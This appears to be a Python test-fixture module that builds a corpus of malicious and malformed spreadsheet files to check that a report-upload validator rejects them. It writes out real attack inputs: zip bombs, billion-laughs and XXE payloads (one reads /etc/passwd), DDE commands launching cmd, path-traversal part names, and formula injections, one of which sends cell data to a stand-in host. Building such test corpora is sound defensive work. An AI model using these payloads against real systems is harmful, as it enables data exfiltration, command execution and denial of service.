"""The hostile corpus: what a folder of returned files may hold, each made here from a good form.

A specimen is rejected with its code, or merged with the findings named. `make` gets the bytes of a filled form as a
spreadsheet program saved it, whose sheet of inputs is ``SHEET``. Unsafe or unbounded files are rejected, not trimmed.
What is merged although it names a far place (an empty row, a dimension, a defined name) makes nobody read that far.
"""

import io
import random
import re
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Final

import docx
import msoffcrypto.format.ooxml
import openpyxl
import xlwt
from openpyxl.worksheet.worksheet import Worksheet

from cchc_xl.jobs.sample.fill import form_cells
from cchc_xl.model import layout
from cchc_xl.model.progress import Field
from tests.books.returned.samples import MAIN, OFFICE, compound, parts_of, with_parts, zipped

Make = Callable[[bytes], bytes]

SHEET: Final = "xl/worksheets/sheet2.xml"
TASK: Final = "7.4"
FAR: Final = "XFD1048576"


@dataclass(frozen=True, slots=True)
class Specimen:
    """A file of the corpus: the code that rejects it, or "" and the codes it is merged with (at task 7.4)."""

    make: Make
    code: str = ""
    said: tuple[str, ...] = ()


# --- changing a form --------------------------------------------------------------------------------------
def noise(size: int) -> bytes:
    """Bytes that do not compress."""
    return random.Random(2026).randbytes(size)


def parts(changes: Mapping[str, bytes | str], level: int | None = None) -> Make:
    """A form with parts added or replaced."""
    return lambda form: with_parts(form, changes, level)


def edited(part: str, old: str, new: str) -> Make:
    """A form whose part has the first match of a pattern replaced."""

    def make(form: bytes) -> bytes:
        before = parts_of(form)[part]
        after = re.sub(old.encode(), lambda _: new.encode(), before, count=1)
        assert after != before, (part, old)
        return with_parts(form, {part: after})

    return make


def reworked(change: Callable[[openpyxl.Workbook, Worksheet], None]) -> Make:
    """A form changed in a spreadsheet program: the workbook, and its sheet of inputs."""

    def make(form: bytes) -> bytes:
        book = openpyxl.load_workbook(io.BytesIO(form))
        change(book, book[layout.FORM_SHEET])
        saved = io.BytesIO()
        book.save(saved)
        return saved.getvalue()

    return make


def typed(values: Mapping[Field, object]) -> Make:
    """A form with other values in the inputs of task 7.4, as texts where they are texts."""

    def change(_: openpyxl.Workbook, sheet: Worksheet) -> None:
        cells = form_cells(sheet)
        for name, value in values.items():
            cell = sheet[cells[TASK, name]]
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"

    return reworked(change)


def result_cell(kind: str, content: str) -> Make:
    """A form whose result of task 7.4 is written with this type and content."""

    def make(form: bytes) -> bytes:
        sheet = openpyxl.load_workbook(io.BytesIO(form))[layout.FORM_SHEET]
        address = form_cells(sheet)[TASK, Field.RESULT]
        return edited(SHEET, f'<c r="{address}"[^>]*>.*?</c>', f'<c r="{address}" t="{kind}">{content}</c>')(form)

    return make


def formula(text: str, cached: str | None = None) -> Make:
    """A form with a formula in the result of task 7.4, with or without a cached value."""
    return result_cell("str", f"<f>{text}</f>" + ("" if cached is None else f"<v>{cached}</v>"))


def text(markup: str) -> Make:
    """A form with a text in the result of task 7.4, as XML."""
    return result_cell("inlineStr", f"<is><t>{markup}</t></is>")


def identity(key: str, value: str) -> Make:
    """A form whose hidden sheet says something else."""

    def change(book: openpyxl.Workbook, _: Worksheet) -> None:
        hidden = book[layout.FORM_IDENTITY_SHEET]
        cell = next(row[1] for row in hidden.iter_rows() if row[0].value == key)
        cell.value = value

    return reworked(change)


def _without_identity(book: openpyxl.Workbook, _: Worksheet) -> None:
    del book[layout.FORM_IDENTITY_SHEET]


def _copy_of_form(different: bool) -> Callable[[openpyxl.Workbook, Worksheet], None]:
    def change(book: openpyxl.Workbook, sheet: Worksheet) -> None:
        copy = book.copy_worksheet(sheet)
        copy.title = "Biểu báo cáo (2)"
        if different:
            copy[form_cells(sheet)[TASK, Field.RESULT]].value = "Bản khác"

    return change


def _extra_tabs(book: openpyxl.Workbook, _: Worksheet) -> None:
    for title, state in (("Nháp", "visible"), ("Ẩn", "hidden"), ("Rất ẩn", "veryHidden")):
        tab = book.create_sheet(title, 0)
        tab["A1"] = "của riêng đơn vị"
        tab.sheet_state = state


def _row_of_another_unit(_: openpyxl.Workbook, sheet: Worksheet) -> None:
    last = int(re.sub("[A-Z]", "", sheet.tables[layout.FORM_TABLE].ref.split(":")[1]))
    headers = {cell.value: cell.column for row in sheet.iter_rows(max_row=last) for cell in row if cell.value}
    sheet.cell(last + 1, headers[layout.TASK_CODE], "3.1")
    sheet.cell(last + 1, headers[layout.TASK], "Nhiệm vụ của Trung tâm")
    sheet.cell(last + 1, headers[layout.RESULT], "Ghi hộ đơn vị khác")


def _strict(form: bytes) -> bytes:
    names = {
        MAIN: "http://purl.oclc.org/ooxml/spreadsheetml/main",
        OFFICE: "http://purl.oclc.org/ooxml/officeDocument/relationships",
    }
    found = parts_of(form)
    for name, part in found.items():
        for transitional, strict in names.items():
            part = part.replace(transitional.encode(), strict.encode())
        found[name] = part
    return zipped(found)


# --- other files ------------------------------------------------------------------------------------------
def _password(form: bytes) -> bytes:
    locked = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(form)).encrypt("mật khẩu", locked)
    return locked.getvalue()


def _old_excel(form: bytes) -> bytes:
    book = xlwt.Workbook(encoding="utf-8")
    for sheet in openpyxl.load_workbook(io.BytesIO(form)):
        copy = book.add_sheet(sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    copy.write(cell.row - 1, cell.column - 1, str(cell.value))
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def _own_workbook() -> bytes:
    book = openpyxl.Workbook()
    book.worksheets[0].append(["TT", "Nhiệm vụ", "Kết quả"])
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def _word(_: bytes) -> bytes:
    letter = docx.Document()
    letter.add_paragraph("Kính gửi: Phòng Hành chính - Quản trị")
    saved = io.BytesIO()
    letter.save(saved)
    return saved.getvalue()


def _binary(_: bytes) -> bytes:
    kind = 'ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"'
    types = f'<Types xmlns="x"><Override PartName="/xl/workbook.bin" {kind}/></Types>'
    return zipped({"[Content_Types].xml": types, "xl/workbook.bin": b"\x83\x01\x00"})


def _open_document(_: bytes) -> bytes:
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind, "content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<m/>"})


def _cut(share: float) -> Make:
    return lambda form: form[: int(len(form) * share)]


# --- bombs ------------------------------------------------------------------------------------------------
def _nested(form: bytes) -> bytes:
    inner = zipped({f"{at}.bin": bytes(1_000_000) for at in range(20)})
    for _ in range(3):
        inner = zipped({f"{at}.zip": inner for at in range(5)}, zipfile.ZIP_STORED)
    return with_parts(form, {"xl/media/anh.zip": inner})


def _sparse(megabytes: int) -> bytes:
    rare = bytes(int(value < 8) for value in range(256))
    return noise(1_000_000).translate(rare) * megabytes


def _lying_size(form: bytes) -> bytes:
    data = bytearray(with_parts(form, {"xl/media/anh.bin": noise(300_000)}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _locked_entries(form: bytes) -> bytes:
    data = bytearray(form)
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


LAUGHS: Final = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{at} "{(f"&a{at - 1};" if at else "&a;") * 10}">' for at in range(10))
    + "]><l>&a9;</l>"
)
XXE: Final = '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s>&x;</s>'


# --- dangers ----------------------------------------------------------------------------------------------
_LINK: Final = f'<externalLink xmlns="{MAIN}">%s</externalLink>'
BOOK_LINK: Final = _LINK % f'<externalBook xmlns:r="{OFFICE}" r:id="rId1"/>'
DDE_LINK: Final = _LINK % '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink>'
OBJECT: Final = '<oleObjects><oleObject progId="Package" shapeId="1"/></oleObjects></worksheet>'
_FAR_NAME: Final = f"<definedNames><definedName name=\"xa\">'Biểu báo cáo'!$A$1:${FAR}</definedName>"
ODD_PATHS: Final = (
    "../evil.xml", "xl/../../evil.xml", "/xl/evil.xml", "xl\\evil.xml", "C:/evil.xml", "XL/Workbook.xml", "xl/a\x07.xml"
)  # fmt: skip
INJECTIONS: Final = {
    "bằng": '=HYPERLINK("http://xau.example/?"&A1,"xem")',
    "cộng": "+cmd|' /C calc'!A0",
    "trừ": "-2+3+cmd|' /C calc'!A0",
    "a còng": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": '\t=WEBSERVICE("http://xau.example")',
    "DDE": 'DDE("cmd";"/C calc";"1")',
    "nháy": "'=1+1",
}
"""Texts that a careless program would store as formulas."""
_HELD_AS: Final = {Field.DECLARED: "O03", Field.PROGRESS: "O02", Field.COMPLETED_ON: "O01"}


def _injections() -> dict[str, Specimen]:
    inputs = [name for name in Field if name is not Field.ESTIMATE]
    return {
        f"công thức gõ dạng chữ, {kind}, ở {name.value.replace('%', 'phần trăm')}": Specimen(
            typed({name: text}), said=(_HELD_AS[name],) if name in _HELD_AS else ()
        )
        for kind, text in INJECTIONS.items()
        for name in inputs
    }


def _row(cells: str, row: str = 'r="900"') -> Make:
    return edited(SHEET, "</sheetData>", f"<row {row}>{cells}</row></sheetData>")


def _many_rows(form: bytes) -> bytes:
    rows = "".join(f'<row r="{at}" s="1" customFormat="1"/>' for at in range(500, 1_000_500))
    return edited(SHEET, "</sheetData>", f"{rows}</sheetData>")(form)


SPECIMENS: Final[Mapping[str, Specimen]] = {
    # other formats, whatever they are called
    "có mật khẩu": Specimen(_password, "TEP02"),
    "mục trong tệp nén có mật khẩu": Specimen(_locked_entries, "TEP02"),
    "Excel 97-2003 đổi đuôi": Specimen(_old_excel, "TEP03"),
    "Excel 95 hoặc WPS": Specimen(lambda _: compound("Book", "ETExtData"), "TEP03"),
    "xlsb đổi đuôi": Specimen(_binary, "TEP04"),
    "ods đổi đuôi": Specimen(_open_document, "TEP04"),
    "docx đổi đuôi": Specimen(_word, "TEP04"),
    "doc đổi đuôi": Specimen(lambda _: compound("WordDocument"), "TEP04"),
    "tệp nén": Specimen(lambda form: zipped({"BieuBC.xlsx": form}), "TEP04"),
    "Strict Open XML": Specimen(_strict, "TEP11"),
    "ảnh": Specimen(lambda _: b"\x89PNG\r\n\x1a\n" + noise(2_000), "TEP01"),
    "PDF": Specimen(lambda _: b"%PDF-1.7\n" + noise(2_000), "TEP01"),
    "trang web": Specimen(lambda _: b"<html><table><tr><td>1.1</td></tr></table></html>", "TEP01"),
    "chữ thường": Specimen(lambda _: "Mã NV;Tình hình thực hiện\n7.4;xong\n".encode(), "TEP01"),
    "rỗng": Specimen(lambda _: b"", "TEP05"),
    **{f"tải dở {share:.0%}": Specimen(_cut(share), "TEP06") for share in (0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99, 0.999)},
    "sổ tính tự lập": Specimen(lambda _: _own_workbook(), "MAU01"),
    # the zip
    "bom nén": Specimen(parts({"xl/media/bom.bin": bytes(60_000_000)}), "TEP07"),
    "bom nén lồng nhau": Specimen(_nested, "TEP07"),
    "quá nhiều tệp thành phần": Specimen(parts({f"xl/media/{at}.txt": "x" for at in range(1_001)}), "TEP07"),
    "tệp thành phần quá lớn": Specimen(parts({"xl/media/anh.bin": _sparse(51)}, 1), "TEP07"),
    "tổng quá lớn": Specimen(parts({f"xl/media/{at}.bin": _sparse(35) for at in range(3)}, 1), "TEP07"),
    "khai sai kích thước": Specimen(_lying_size, "TEP06"),
    "tệp lớn hơn 20 MB": Specimen(lambda form: form + bytes(20_000_000), "TEP07"),
    # XML
    **{
        f"{kind} ở {part.rpartition('/')[2]}": Specimen(parts({part: markup}), "TEP08")
        for kind, markup in (("tỷ tiếng cười", LAUGHS), ("thực thể ngoài", XXE))
        for part in (SHEET, "xl/sharedStrings.xml", "xl/workbook.xml", "docProps/core.xml", "customXml/item1.xml")
    },
    # places
    "ô XFD1048576": Specimen(_row(f'<c r="{FAR}"><v>1</v></c>', 'r="1048576"'), "TEP07"),
    "ô không nói ở đâu, dòng 1048576": Specimen(_row("<c><v>1</v></c>", 'r="1048576"'), "TEP07"),
    "ô gộp tới XFD1048576": Specimen(
        edited(SHEET, "<mergeCells[^>]*>", f'<mergeCells><mergeCell ref="A900:{FAR}"/>'), "TEP07"
    ),
    "bảng tới XFD1048576": Specimen(edited("xl/tables/table1.xml", ' ref="[A-Z0-9:]*"', f' ref="A6:{FAR}"'), "TEP07"),
    "tên tới XFD1048576": Specimen(edited("xl/workbook.xml", "<definedNames>", _FAR_NAME)),
    "dòng trống 1048576": Specimen(_row("", 'r="1048576" ht="12.8"')),
    "phạm vi khai A1": Specimen(edited(SHEET, '<dimension ref="[A-Z0-9:]*"', '<dimension ref="A1:A1"')),
    "phạm vi khai XFD1048576": Specimen(edited(SHEET, '<dimension ref="[A-Z0-9:]*"', f'<dimension ref="A1:{FAR}"')),
    "một triệu dòng trống có định dạng": Specimen(_many_rows, "TEP07"),
    # dangers
    "macro": Specimen(parts({"xl/vbaProject.bin": compound("dir")}), "TEP08"),
    "macro Excel 4": Specimen(parts({"xl/macrosheets/sheet1.xml": "<m/>"}), "TEP08"),
    "đối tượng nhúng": Specimen(parts({"xl/embeddings/oleObject1.bin": compound("Package")}), "TEP08"),
    "đối tượng trong trang": Specimen(edited(SHEET, "</worksheet>", OBJECT), "TEP08"),
    "ActiveX": Specimen(parts({"xl/activeX/activeX1.xml": "<a/>"}), "TEP08"),
    "liên kết DDE": Specimen(parts({"xl/externalLinks/externalLink1.xml": DDE_LINK}), "TEP08"),
    "công thức DDE": Specimen(formula("cmd|'/c calc'!A0", "0"), "TEP08"),
    "liên kết ngoài": Specimen(parts({"xl/externalLinks/externalLink1.xml": BOOK_LINK}), said=("TEP09",)),
    "kết nối dữ liệu": Specimen(parts({"xl/connections.xml": f'<connections xmlns="{MAIN}"/>'}), said=("TEP09",)),
    **{f"đường dẫn {at}": Specimen(parts({name: "<a/>"}), "TEP08") for at, name in enumerate(ODD_PATHS, 1)},
    # formulas and contents of cells
    "công thức có giá trị": Specimen(formula('UPPER("xong")', "XONG"), said=("O04",)),
    "công thức không có giá trị": Specimen(formula("B4&amp;C4"), said=("O04",)),
    "công thức lấy sổ khác": Specimen(formula("[1]Sheet1!A1", "5"), said=("O04",)),
    "#REF!": Specimen(typed({Field.RESULT: "#REF!"}), said=("O05",)),
    "ký tự điều khiển": Specimen(text("Đã &#1;khảo\x02 sát yêu cầu.")),
    "40.000 ký tự": Specimen(text("báo cáo " * 5_000), said=("O13",)),
    **_injections(),
    # the form itself
    "trang thừa, ẩn, rất ẩn": Specimen(reworked(_extra_tabs), said=("DONG08",)),
    "hai trang biểu giống nhau": Specimen(reworked(_copy_of_form(different=False))),
    "hai trang biểu khác nhau": Specimen(reworked(_copy_of_form(different=True)), "MAU08"),
    "mất trang nhận dạng": Specimen(reworked(_without_identity), "MAU06"),
    "nhận dạng sai đơn vị": Specimen(identity(layout.IDENTITY_UNIT, "PHONGLA"), "MAU03"),
    "nhận dạng sai kế hoạch": Specimen(identity(layout.IDENTITY_PLAN, "KH-2025"), "MAU02"),
    "nhận dạng sai kỳ": Specimen(identity(layout.IDENTITY_PERIOD, "6-thang"), "MAU04"),
    "nhận dạng sai phiên bản": Specimen(identity(layout.IDENTITY_FORM_VERSION, "99"), "MAU05"),
    "nhận dạng không có lần phát hành": Specimen(identity(layout.IDENTITY_ISSUE, "?"), "MAU06"),
    "dòng của đơn vị khác": Specimen(reworked(_row_of_another_unit), said=("DONG03",)),
}
